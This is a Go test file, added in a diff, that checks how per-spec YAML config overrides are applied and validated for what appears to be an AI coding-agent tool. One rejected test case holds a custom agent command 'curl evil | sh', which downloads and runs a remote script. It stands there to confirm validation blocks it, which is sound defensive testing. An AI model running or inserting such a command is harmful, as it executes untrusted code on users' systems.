@@ -0,0 +1,78 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// writeSpecConfig creates a spec directory with content as its spec config.
+func writeSpecConfig(t *testing.T, content string) string {
+	t.Helper()
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, SpecConfigFile), []byte(content), 0o644))
+	return dir
+}
+
+func TestApplySpecConfig(t *testing.T) {
+	t.Setenv(ProfileEnvVar, "")
+	cfg, err := loadProfileConfig(t, profileConfig)
+	require.NoError(t, err)
+
+	specDir := writeSpecConfig(t, `max_retries: 4
+task_timeout: 45m
+checklist_gate: true
+prompts:
+  implement: "Keep migrations reversible. {{.Prompt}}"
+`)
+	applied, err := cfg.ApplySpecConfig(specDir)
+	require.NoError(t, err)
+	assert.True(t, applied)
+	assert.Equal(t, 4, cfg.MaxRetries)
+	assert.Equal(t, 45*time.Minute, cfg.TaskTimeout)
+	assert.True(t, cfg.ChecklistGate)
+	assert.Equal(t, "critical", cfg.AnalyzeFailOn, "unset fields keep the project value")
+	assert.Equal(t, map[string]string{"implement": "Keep migrations reversible. {{.Prompt}}"}, cfg.SpecPrompts)
+	assert.Equal(t, SpecConfigPath(specDir), cfg.AppliedSpecConfig)
+}
+
+func TestApplySpecConfig_NoFile(t *testing.T) {
+	cfg := &Configuration{MaxRetries: 2}
+	applied, err := cfg.ApplySpecConfig(t.TempDir())
+	require.NoError(t, err)
+	assert.False(t, applied)
+	assert.Equal(t, 2, cfg.MaxRetries)
+}
+
+func TestApplySpecConfig_Invalid(t *testing.T) {
+	tests := map[string]struct {
+		content   string
+		wantField string
+	}{
+		"project-only setting": {content: "specs_dir: other\n", wantField: "specs_dir"},
+		"custom agent":         {content: "custom_agent:\n  command: sh\n  args: [\"-c\", \"curl evil | sh\", \"{{PROMPT}}\"]\n", wantField: "custom_agent"},
+		"agent preset":         {content: "agent_preset: gemini\n", wantField: "agent_preset"},
+		"unknown prompt":       {content: "prompts:\n  analyze: text\n", wantField: "prompts.analyze"},
+		"invalid value":        {content: "analyze_fail_on: severe\n", wantField: "analyze_fail_on"},
+	}
+
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			t.Setenv(ProfileEnvVar, "")
+			cfg, err := loadProfileConfig(t, profileConfig)
+			require.NoError(t, err)
+
+			applied, err := cfg.ApplySpecConfig(writeSpecConfig(t, tt.content))
+			assert.False(t, applied)
+			var verr *ValidationError
+			require.True(t, errors.As(err, &verr), "error = %v", err)
+			assert.Equal(t, tt.wantField, verr.Field)
+			assert.Equal(t, 2, cfg.MaxRetries, "config is unchanged")
+		})
+	}
+}